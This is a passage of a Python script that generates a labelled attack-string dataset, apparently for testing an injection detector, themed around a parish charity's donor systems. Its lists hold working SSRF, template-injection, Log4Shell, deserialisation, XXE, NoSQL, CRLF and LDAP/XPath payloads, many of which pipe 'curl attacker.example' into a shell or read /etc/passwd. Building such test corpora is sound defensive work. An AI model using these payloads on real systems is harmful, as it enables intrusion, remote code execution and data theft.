    ("pdf-render-iframe", "<iframe src=\"http://169.254.169.254/latest/meta-data/iam/security-credentials/\" width=\"800\" height=\"600\"></iframe>"),
    ("pdf-render-xhr-file", "Carol service order <script>x=new XMLHttpRequest;x.open('GET','file:///etc/passwd',false);x.send();document.write('<pre>'+x.responseText+'</pre>')</script>"),
    ("pdf-render-img-blind", "Harvest poster <img src=\"http://10.20.0.7:8080/internal/jobs/run?name=cleanup\">"),
    ("feed-import-internal", "http://10.10.0.12:8081/feeds/internal.xml"),
    ("url-cloud-metadata", "http://100.100.100.200/latest/meta-data/ram/security-credentials/"),
    ("unc-smb", "\\\\198.51.100.10\\share\\logo.png"),
    ("url-userinfo-confusion", "http://attacker.example:80@127.0.0.1:6379/"),
    ("url-cloud-metadata+url", "http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F"),
    ("gopher-smtp", "gopher://127.0.0.1:25/_HELO%20localhost%0D%0AMAIL%20FROM%3A%3Cvicar%40stmarys-parish.example%3E%0D%0ARCPT%20TO%3A%3Cdonors%40attacker.example%3E%0D%0ADATA%0D%0ASubject%3A%20Urgent%20bank%20change%0D%0A%0D%0APlease%20use%20our%20new%20account.%0D%0A.%0D%0AQUIT%0D%0A"),
    ("url-loopback+decimal-ip", "http://2130706433:8080/admin"),
    ("url-cloud-metadata-ipv6", "http://[fd00:ec2::254]/latest/meta-data/"),
    ("url-cloud-metadata-alias", "http://instance-data/latest/meta-data/"),
    ("json-webhook-internal", "{\"webhook_url\": \"http://127.0.0.1:8001/api/v1/namespaces/kube-system/secrets\"}"),
    ("json-image-url-metadata", "{\"banner_image\": \"http://169.254.169.254/latest/meta-data/hostname\", \"alt\": \"Roof appeal\"}"),
    ("ftp-internal", "ftp://10.0.0.8/backups/donors.sql"),
    ("url-loopback-trailing-dot", "http://localhost./admin/"),
    ("plain-loopback", "http://127.0.0.1/"),
    ("plain-localhost", "http://localhost/admin"),
    ("plain-metadata", "http://169.254.169.254/latest/meta-data/"),
    ("plain-file", "file:///etc/hosts"),
    ("plain-gopher", "gopher://127.0.0.1:6379/_INFO"),
]

SSRF_HOSTS = [("url-internal-range", "10.0.{a}.{b}"), ("url-internal-range", "172.16.{a}.{b}"),
              ("url-internal-range", "192.168.{a}.{b}"), ("url-loopback", "127.0.0.1"),
              ("url-loopback", "localhost")]
SSRF_PORTS = ["", ":8080", ":8000", ":9000", ":3000", ":5601", ":6379"]
SSRF_PATHS = ["/admin/", "/banner.jpg", "/feeds/sermons.xml", "/api/v1/donors", "/internal/backup.sql",
              "/metrics", "/debug/vars"]


def tpl_ssrf(rng):
    cls, host = rng.choice(SSRF_HOSTS)
    host = host.format(a=rng.randint(0, 31), b=rng.randint(1, 254))
    return cls, "http://" + host + rng.choice(SSRF_PORTS) + rng.choice(SSRF_PATHS)


# ---------------------------------------------------------------------------
# code: SSTI in thank-you templates, EL, Log4Shell, deserialisation, XXE in
# Gift Aid XML, prototype pollution, CSV formulas in donor exports, eval
# ---------------------------------------------------------------------------
CODE = [
    ("jinja2-ssti", "Dear {{ cycler.__init__.__globals__.os.popen('id').read() }}, thank you for your gift"),
    ("jinja2-ssti", "{{ self._TemplateReference__context.joiner.__init__.__globals__.os.popen('curl -s attacker.example/j | sh').read() }}"),
    ("jinja2-ssti-config", "Harvest thanks {{ config.items() }}"),
    ("jinja2-ssti-subclasses", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("jinja2-ssti-loop", "{% for c in ().__class__.__base__.__subclasses__() %}{% if c.__name__ == 'catch_warnings' %}{{ c()._module.__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}"),
    ("jinja2-ssti", "{{ lipsum.__globals__['os'].popen('cat /etc/passwd').read() }}"),
    ("jinja2-ssti+hex-escape", "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')|attr('popen')('id')|attr('read')() }}"),
    ("jinja2-ssti+url", "%7B%7B%20cycler.__init__.__globals__.os.popen%28%27id%27%29.read%28%29%20%7D%7D"),
    ("twig-ssti", "{{ ['id']|filter('system') }}"),
    ("twig-ssti", "{{ _self.env.registerUndefinedFilterCallback('exec') }}{{ _self.env.getFilter('curl -s attacker.example/t|sh') }}"),
    ("freemarker-ssti", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ ex(\"id\") }"),
    ("velocity-ssti", "#set($s=\"\")#set($rt=$s.getClass().forName(\"java.lang.Runtime\"))#set($p=$rt.getRuntime().exec(\"id\"))$p.waitFor()"),
    ("erb-ssti", "Thank you <%= `id` %>"),
    ("erb-ssti", "<%= IO.popen('cat /etc/passwd').read %>"),
    ("smarty-ssti", "{'id'|system}"),
    ("mako-ssti", "${__import__('os').popen('id').read()}"),
    ("mako-ssti-block", "<%\nimport os\nx = os.popen('id').read()\n%>\n${x}"),
    ("pug-ssti", "#{global.process.mainModule.require('child_process').execSync('id')}"),
    ("ejs-ssti", "<%= global.process.mainModule.require('child_process').execSync('id') %>"),
    ("nunjucks-ssti", "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")() }}"),
    ("thymeleaf-preprocessing", "__${T(java.lang.Runtime).getRuntime().exec('curl -s attacker.example/th')}__::.x"),
    ("spel-injection", "#{T(java.lang.Runtime).getRuntime().exec('id')}"),
    ("spel-injection", "${T(java.lang.Runtime).getRuntime().exec(new String[]{'sh','-c','curl -s attacker.example/s|sh'})}"),
    ("ognl-injection", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('touch /tmp/ognl'))}"),
    ("java-el-injection", "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"),
    ("groovy-template", "${'id'.execute().text}"),
    ("log4j-lookup", "Mary ${jndi:ldap://198.51.100.3:1389/x} Jones"),
    ("log4j-lookup-nested", "${${lower:j}ndi:${lower:l}dap://attacker.example/o}"),
    ("log4j-lookup-default", "${${::-j}${::-n}${::-d}${::-i}:rmi://203.0.113.77/e}"),
    ("log4j-lookup-env-exfil", "Harvest ${jndi:ldap://${env:USER}.x.attacker.example/a}"),
    ("log4j-lookup-default", "${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://attacker.example/b}"),
    ("log4j-lookup+url", "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fu%7D"),
    ("log4j-lookup-case-lookup", "${${lower:JNDI}:${lower:DNS}://c.attacker.example}"),
    ("pickle-deser+base64", "Y3Bvc2l4CnN5c3RlbQooUydjdXJsIC1zIGh0dHBzOi8vYXR0YWNrZXIuZXhhbXBsZS9rIHwgc2gnCnRSLg=="),
    ("pickle-deser", "cos\nsystem\n(S'id > /tmp/pickled'\ntR."),
    ("yaml-deser", "title: Harvest\nnotes: !!python/object/apply:os.system [\"curl -s https://attacker.example/y | sh\"]"),
    ("yaml-deser-snakeyaml", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/yaml.jar\"]]]]"),
    ("php-deser", "O:11:\"DonorExport\":2:{s:4:\"path\";s:31:\"/var/www/html/uploads/shell.php\";s:4:\"body\";s:28:\"<?php system($_GET['c']); ?>\";}"),
    ("node-deser", "{\"donor\":\"_$$ND_FUNC$$_function(){require('child_process').exec('curl -s attacker.example/n|sh')}()\"}"),
    ("jsonnet-typename", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"},\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList, mscorlib\",\"$values\":[\"cmd\",\"/c ping 203.0.113.3\"]}}"),
    ("jsonpickle-deser", "{\"py/reduce\": [{\"py/function\": \"os.system\"}, {\"py/tuple\": [\"id\"]}]}"),
    ("xml-xxe-file", "<?xml version=\"1.0\"?><!DOCTYPE claim [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><GiftAidClaim><Donor><Surname>&x;</Surname><Total>25.00</Total></Donor></GiftAidClaim>"),
    ("xml-xxe-oob", "<?xml version=\"1.0\"?>\n<!DOCTYPE r [<!ENTITY % dtd SYSTEM \"http://attacker.example/gift.dtd\"> %dtd;]>\n<r>&send;</r>"),
    ("xml-xxe-ssrf", "<?xml version=\"1.0\"?><!DOCTYPE hymns [<!ENTITY m SYSTEM \"http://169.254.169.254/latest/meta-data/iam/security-credentials/\">]><hymns><hymn n=\"545\">&m;</hymn></hymns>"),
    ("xml-entity-expansion", "<?xml version=\"1.0\"?><!DOCTYPE l [<!ENTITY a \"Alleluia\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\"><!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;\"><!ENTITY f \"&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;\"><!ENTITY g \"&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;\">]><l>&g;</l>"),
    ("xml-xinclude", "<hymn xmlns:xi=\"http://www.w3.org/2001/XInclude\"><title>Abide with me</title><xi:include parse=\"text\" href=\"file:///etc/hostname\"/></hymn>"),
    ("xml-xxe-expect", "<?xml version=\"1.0\"?><!DOCTYPE d [<!ENTITY x SYSTEM \"expect://id\">]><donation><note>&x;</note></donation>"),
    ("svg-xxe", "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY p SYSTEM \"file:///etc/passwd\">]><svg xmlns=\"http://www.w3.org/2000/svg\" width=\"600\" height=\"400\"><text x=\"5\" y=\"20\">&p;</text></svg>"),
    ("xslt-php-function", "<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\" xmlns:php=\"http://php.net/xsl\"><xsl:template match=\"/\"><xsl:value-of select=\"php:function('system','id')\"/></xsl:template></xsl:stylesheet>"),
    ("proto-pollution-json", "{\"display_name\": \"Harvest team\", \"__proto__\": {\"isAdmin\": true}}"),
    ("proto-pollution-constructor", "{\"settings\": {\"constructor\": {\"prototype\": {\"role\": \"trustee-admin\"}}}}"),
    ("proto-pollution-qs", "__proto__[isAdmin]=true&name=Harvest"),
    ("ejs-options-rce", "settings[view options][outputFunctionName]=x;process.mainModule.require('child_process').execSync('curl -s attacker.example/e|sh');s"),
    ("proto-pollution-gadget", "{\"__proto__\": {\"execArgv\": [\"--eval=require('child_process').execSync('curl -s attacker.example/f|sh')\"]}}"),
    ("proto-pollution-json+unicode-escape", "{\"\\u005f\\u005fproto\\u005f\\u005f\": {\"canApproveGrants\": true}}"),
    ("csv-formula-hyperlink", "=HYPERLINK(\"https://attacker.example/?d=\"&A2&B2, \"Gift Aid receipt\")"),
    ("csv-formula-dde", "=cmd|' /C powershell IEX(wget attacker.example/p)'!A0"),
    ("csv-formula-dde", "@SUM(1+9)*cmd|' /C calc'!A0"),
    ("csv-formula-importxml", "+IMPORTXML(CONCAT(\"https://attacker.example/?\", A1:C20), \"//a\")"),
    ("csv-formula-dde", "-2+3+cmd|' /C notepad'!'A1'"),
    ("csv-formula-webservice", "=WEBSERVICE(\"https://attacker.example/l?\"&A1&\"-\"&C1)"),
    ("csv-formula-image", "=IMAGE(\"https://attacker.example/p.png?\"&B2&C2)"),
    ("py-eval-injection", "1200*0.25 + __import__('os').system('id')"),
    ("js-eval-injection", "150*12; require('child_process').execSync('curl -s attacker.example/v|sh')"),
    ("php-dq-eval-interpolation", "${system('id')}"),
    ("ruby-eval-interpolation", "#{`id`}"),
    ("ssi-exec", "<!--#exec cmd=\"cat /etc/passwd\" -->"),
    ("esi-include", "Harvest <esi:include src=\"http://attacker.example/esi.html\"/> supper"),
    ("py-format-leak", "{donor.__init__.__globals__[CONFIG][SECRET_KEY]}"),
    ("jinja2-ssti", "Querida {{ lipsum.__globals__.os.popen('id').read() }}, ¡gracias por tu donativo!"),
    ("plain-jinja2", "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}"),
    ("plain-log4j", "${jndi:ldap://attacker.example/a}"),
    ("plain-xxe", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>"),
    ("plain-proto", "{\"__proto__\":{\"polluted\":true}}"),
    ("plain-csv", "=1+1+cmd|' /C calc'!A1"),
    ("plain-spel", "T(java.lang.Runtime).getRuntime().exec('id')"),
    ("plain-erb", "<%= system('id') %>"),
]

CODE_LEADS = ["Dear ", "Thank you ", "Harvest thanks, ", "Mrs ", "In memory of ", "Revd "]
CODE_PAYLOADS = [
    ("jinja2-ssti", "{{ cycler.__init__.__globals__.os.popen('whoami').read() }}"),
    ("log4j-lookup", "${jndi:ldap://attacker.example:1389/x}"),
    ("freemarker-ssti", "${\"freemarker.template.utility.Execute\"?new()(\"id\")}"),
    ("spel-injection", "#{T(java.lang.Runtime).getRuntime().exec('id')}"),
    ("erb-ssti", "<%= `whoami` %>"),
]


def tpl_code(rng):
    cls, p = rng.choice(CODE_PAYLOADS)
    return cls, rng.choice(CODE_LEADS) + p


# ---------------------------------------------------------------------------
# nosqli: donor portal login, donor lookup, volunteer search (MongoDB/CouchDB)
# ---------------------------------------------------------------------------
NOSQLI = [
    ("json-ne", "{\"email\": \"treasurer@stmarys-parish.example\", \"password\": {\"$ne\": null}}"),
    ("json-gt", "{\"username\": {\"$gt\": \"\"}, \"password\": {\"$gt\": \"\"}}"),
    ("qs-ne", "email[$ne]=nobody@stmarys-parish.example&password[$ne]=x"),
    ("json-regex", "{\"surname\": {\"$regex\": \"^Ok\", \"$options\": \"i\"}, \"pin\": {\"$regex\": \"^1\"}}"),
    ("json-where-time", "{\"$where\": \"sleep(5000) || true\"}"),
    ("where-str-breakout", "GA-0041' || this.role == 'admin' || 'a'=='b"),
    ("where-str-time", "x' || sleep(4000) || '"),
    ("json-nin", "{\"donor_id\": {\"$nin\": []}}"),
    ("json-function", "{\"$expr\": {\"$function\": {\"body\": \"function() { sleep(3000); return true; }\", \"args\": [], \"lang\": \"js\"}}}"),
    ("pipeline-lookup", "[{\"$lookup\": {\"from\": \"staff_users\", \"pipeline\": [], \"as\": \"leak\"}}]"),
    ("json-or", "{\"$or\": [{\"email\": \"nobody@x\"}, {\"role\": \"admin\"}]}"),
    ("qs-regex", "reset_token[$regex]=^a&email=vicar@stmarys-parish.example"),
    ("qs-gt", "api_key[$gt]=&org=stmarys"),
    ("mango-selector", "{\"selector\": {\"_id\": {\"$gt\": null}}, \"fields\": [\"email\", \"password_hash\"]}"),
    ("json-where+unicode-escape", "{\"$where\": \"this.pin.match(/^4/) \\u0026\\u0026 sleep(2000)\"}"),
    ("qs-ne+url", "password%5B%24ne%5D=1&login=treasurer"),
    ("json-regex-any", "{\"login\": \"admin\", \"password\": {\"$regex\": \".*\"}}"),
    ("json-in", "{\"username\": {\"$in\": [\"admin\", \"treasurer\", \"vicar\"]}, \"password\": {\"$gt\": \"\"}}"),
    ("json-where-busyloop", "{\"$where\": \"var d = new Date(); while (new Date() - d < 4000) {} return true;\"}"),
    ("json-where-charat", "{\"$where\": \"this.password_hash.charAt(0) == '$'\"}"),
    ("where-str-exfil", "x' || this.reset_token.startsWith('9f') || 'a'=='b"),
    ("json-type", "{\"donor_ref\": {\"$type\": 2}, \"gift_aid\": true}"),
    ("plain-ne", "{\"$ne\": null}"),
    ("plain-gt", "{\"$gt\": \"\"}"),
    ("plain-where", "'; return true; var x='"),
]

NQ_FIELDS = ["donor_ref", "email", "volunteer_id", "pin", "gift_aid_ref", "postcode"]
NQ_OPS = [("json-ne", "{{\"{f}\": {{\"$ne\": \"\"}}}}"), ("json-regex", "{{\"{f}\": {{\"$regex\": \"^.\"}}}}"),
          ("qs-ne", "{f}[$ne]=0"), ("qs-gt", "{f}[$gt]=")]


def tpl_nosqli(rng):
    cls, op = rng.choice(NQ_OPS)
    return cls, op.format(f=rng.choice(NQ_FIELDS))


# ---------------------------------------------------------------------------
# crlf: redirect/cookie headers, newsletter mail headers, SMTP, audit logs
# ---------------------------------------------------------------------------
CRLF = [
    ("header-set-cookie", "/thank-you\r\nSet-Cookie: session=attacker-fixed; Path=/; HttpOnly"),
    ("header-response-split", "/donate\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<script>alert(document.domain)</script>"),
    ("header-set-cookie+url", "/campaign/roof%0d%0aSet-Cookie:%20donor_session=fixated"),
    ("header-location+double-url", "/events%250d%250aLocation:%20https://attacker.example/"),
    ("header-set-cookie+utf8-truncation", "/campaign/winter嘊嘍Set-Cookie: admin=1"),
    ("mail-subject-bcc", "Harvest Newsletter\r\nBcc: list@attacker.example"),
    ("mail-fromname-cc", "St Mary's Parish Office\nCc: everyone@attacker.example\nX-Priority: 1"),
    ("mail-body-override", "Thank you\r\nContent-Type: text/html\r\n\r\n<a href=\"https://attacker.example/giftaid\">Confirm your Gift Aid</a>"),
    ("mail-address-bcc", "donor@stmarys-parish.example\r\nBcc: a@attacker.example, b@attacker.example"),
    ("smtp-rcpt-injection", "donor@stmarys-parish.example>\r\nRCPT TO:<spam-target@attacker.example"),
    ("log-forge", "Volunteer sign-up OK\n2024-11-03 09:14:22 INFO user=admin action=grant_role role=superuser ip=10.0.0.4"),
    ("log-forge-cr", "Bake sale note\r2024-03-09T10:00:00Z [AUTH] login success user=treasurer"),
    ("log-ansi-escape", "Great day!\x1b[2J\x1b[1;1H\x1b[32mAll checks passed\x1b[0m"),
    ("request-header-injection", "en-GB\r\nX-Forwarded-Host: attacker.example"),
    ("header-content-disposition-split", "minutes.pdf\"\r\nContent-Type: text/html\r\n\r\n<h1>Session expired</h1><form action=https://attacker.example/>"),
    ("header-cookie-value", "cy\r\nSet-Cookie: role=admin; Path=/"),
    ("header-refresh-lf", "/events/carol-service\nRefresh: 0; url=https://attacker.example/"),
    ("smtp-body-smuggling", "Thanks for the gift!\r\n.\r\nMAIL FROM:<vicar@stmarys-parish.example>\r\nRCPT TO:<donor@attacker.example>\r\nDATA\r\nSubject: Urgent bank change\r\n\r\nPlease use our new account.\r\n.\r\n"),
    ("log-json-breakout", "ok\",\"level\":\"INFO\",\"user\":\"admin\",\"msg\":\"role granted"),
    ("mail-subject-bcc+url", "Prayer%20chain%0d%0aBcc:%20harvest@attacker.example"),
    ("json-header+unicode-escape", "{\"redirect\": \"/give\\r\\nSet-Cookie: gift=1\"}"),
    ("log-forge-multiline", "Please pray for Joan\n[2024-12-01 02:13:44] WARN payment webhook verified=false amount=0.00 donor=all\n[2024-12-01 02:13:44] INFO export donors.csv by=admin"),
    ("mail-header-lf", "Advent Appeal\nReply-To: giving@attacker.example"),
    ("header-x-accel-redirect", "/receipts\r\nX-Accel-Redirect: /internal/backups/donors.sql"),
    ("plain-crlf", "\r\nSet-Cookie: injected=1"),
    ("plain-crlf-url", "%0d%0aLocation:%20http://attacker.example"),
    ("plain-lf", "\nX-Injected: yes"),
]

CRLF_LEADS = ["Advent Appeal update", "Harvest Supper tickets", "Rota for March", "Your Gift Aid receipt",
              "Prayer chain", "Volunteer newsletter"]
CRLF_INJ = [("mail-subject-bcc", "\r\nBcc: {n}@attacker.example"),
            ("mail-subject-reply-to", "\r\nReply-To: {n}@attacker.example"),
            ("mail-subject-cc", "\nCc: {n}@attacker.example")]


def tpl_crlf(rng):
    cls, inj = rng.choice(CRLF_INJ)
    return cls, rng.choice(CRLF_LEADS) + inj.format(n=rng.choice(["list", "harvest", "donors", "x", "copy"]))


# ---------------------------------------------------------------------------
# ldap-xpath: volunteer directory (LDAP), hymn catalogue / rota XML (XPath)
# ---------------------------------------------------------------------------
LDAP_XPATH = [
    ("ldap-wildcard-breakout", "*)(uid=*))(|(uid=*"),
    ("ldap-and-true", "admin)(&)"),
    ("ldap-or-password-bypass", "treasurer)(|(uid=*"),
    ("ldap-memberof", "*)(memberOf=cn=trustees,ou=groups,dc=stmarys,dc=example"),
    ("ldap-blind-attr", "admin)(userPassword=a*"),
    ("ldap-wildcard+nullbyte", "*)(uid=*))%00"),
    ("ldap-phone-enum", "J*)(|(telephoneNumber=*"),
    ("ldap-wildcard+url", "%2a%29%28%7c%28uid%3d%2a"),
    ("ldap-description-leak", "Okafor)(description=*"),
    ("ldap-objectclass", "*)(objectClass=*"),
    ("xpath-tautology", "Amazing Grace' or '1'='1"),
    ("xpath-count", "Abide with Me' or count(//user) > 0 or 'a'='b"),
    ("xpath-blind-name", "x' or name(/*[1])='staff' or 'a'='b"),
    ("xpath-union", "x'] | //user/password | //hymn[title='x"),
    ("xpath-blind-substring", "' or substring(//volunteer[1]/pin,1,1)='4' or 'a'='b"),
    ("xpath-string-length", "Be Thou My Vision' or string-length(//admin/password) > 8 or '"),
    ("xpath-numeric", "1 or 1=1"),
    ("xpath-contains-breakout", "')] | //* | //*[('"),
    ("xpath-doc-oob", "x' or doc('http://attacker.example/x.xml') or 'a'='b"),
    ("xpath-and-count", "545' and count(/*/*) = 5 and 'a'='a"),
    ("ldap-wildcard-breakout", "Müller*)(|(mail=*"),
    ("plain-ldap", "*)(cn=*"),
    ("plain-xpath", "' or 1=1 or ''='"),
    ("plain-xpath-union", "'] | //* | //*['"),
]

LX_NAMES = ["Okafor", "Nowak", "Evans", "Chen", "Patel", "Hughes"]
LX_SUFFIX = [("ldap-wildcard-breakout", "*)(|(uid=*"), ("ldap-blind-attr", ")(userPassword={c}*"),
             ("xpath-tautology", "' or '{c}'='{c}")]


def tpl_ldap_xpath(rng):
    cls, suf = rng.choice(LX_SUFFIX)
    return cls, rng.choice(LX_NAMES) + suf.format(c=rng.choice("abcdefghk"))


CATEGORIES = [
    ("sqli", SQLI, tpl_sqli, 76),
    ("xss", XSS, tpl_xss, 74),
    ("cmdi", CMDI, tpl_cmdi, 70),
    ("traversal", TRAVERSAL, tpl_traversal, 52),
    ("ssrf", SSRF, tpl_ssrf, 54),
    ("code", CODE, tpl_code, 80),
    ("nosqli", NOSQLI, tpl_nosqli, 28),
    ("crlf", CRLF, tpl_crlf, 32),
    ("ldap-xpath", LDAP_XPATH, tpl_ldap_xpath, 25),
]


def main():
    rng = random.Random(SEED)
    rows = []
    seen = {}
    stats = []
    for name, literals, tpl, target in CATEGORIES:
        n_lit = 0
        for cls, v in literals:
            if v in seen:
                raise SystemExit("duplicate literal in {}: {!r}".format(name, v))
            seen[v] = name
            rows.append((name, cls, v))
            n_lit += 1
        n_cat = n_lit
        tries = 0
        while n_cat < target:
            tries += 1
            if tries > 10000:
                raise SystemExit("template for {} cannot produce enough unique values".format(name))
            cls, v = tpl(rng)
            if v in seen:
                continue
            seen[v] = name
            rows.append((name, cls, v))
            n_cat += 1
        stats.append((name, n_cat, n_lit))

    out = []
    for i, (cat, cls, v) in enumerate(rows, 1):
        assert isinstance(v, str) and v and len(v) <= 1800, (cat, v)
        out.append({"id": "{}-{:05d}".format(PREFIX, i), "category": cat, "class": cls,
                    "label": "attack", "value": v})

    benign = Path(__file__).with_name("benign.jsonl")
    if benign.exists():
        with open(benign, encoding="utf-8") as fh:
            bvals = [json.loads(line)["value"] for line in fh]
        clash = [v for v in bvals if v in seen]
        if clash:
            raise SystemExit("value present in both files: {!r}".format(clash[0]))

    path = Path(__file__).with_name("attacks.jsonl")
    with open(path, "w", encoding="utf-8", newline="\n") as fh:
        for obj in out:
            fh.write(json.dumps(obj, ensure_ascii=False) + "\n")

    total_lit = 0
    for name, n, lit in stats:
        total_lit += lit
        print("{:<12} n={:>3}  literals={:>3} ({:.0%})".format(name, n, lit, lit / n))
    n_plain = sum(1 for o in out if o["class"].startswith("plain-"))
    n_enc = sum(1 for o in out if "+" in o["class"])
    print("total attacks: {}  literals: {} ({:.1%})  plain: {}  encoded: {}".format(
        len(out), total_lit, total_lit / len(out), n_plain, n_enc))


if __name__ == "__main__":
    main()
